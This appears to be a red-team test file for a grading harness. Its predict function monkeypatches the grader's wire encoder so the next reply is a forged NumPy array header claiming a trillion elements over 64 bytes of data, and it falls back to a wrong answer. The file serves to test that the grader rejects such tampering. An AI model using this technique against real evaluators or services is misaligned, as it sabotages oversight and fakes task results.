"""Red team: predict patches the worker's encoder (sys.modules['grader.wire']) to send an array
whose header promises 10^12 elements with a few bytes of data; if it cannot, it returns a wrong
(1, 1) answer. Either way predict's checks fail.

examples/correct.py goes where # __CORRECT_SOLUTION__ stands (tests/test_redteam.py
assembles it); the attack follows."""

# __CORRECT_SOLUTION__

import struct
import sys


def _forge_next_reply(make_blob):
    """Make the worker send ``make_blob()`` as the next returned array, if its encoder is
    reachable; True if the patch is in place."""
    wire = sys.modules.get("grader.wire")
    if wire is None or not hasattr(wire, "encode_value"):
        return False
    original = wire.encode_value

    def forged(value, blobs, *args, **kwargs):
        wire.encode_value = original
        blobs.append(make_blob())
        return {"t": "array", "i": len(blobs) - 1, "scalar": False}

    wire.encode_value = forged
    return True


def _npy(header: dict, data: bytes) -> bytes:
    text = repr(header).encode("latin1")
    text += b" " * (63 - (len(text) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data


def predict(parameters, X):
    _forge_next_reply(lambda: _npy({"descr": "<f8", "fortran_order": False,
                                    "shape": (1000000, 1000000)}, b"\0" * 64))
    return np.zeros((1, 1)) + 0.5
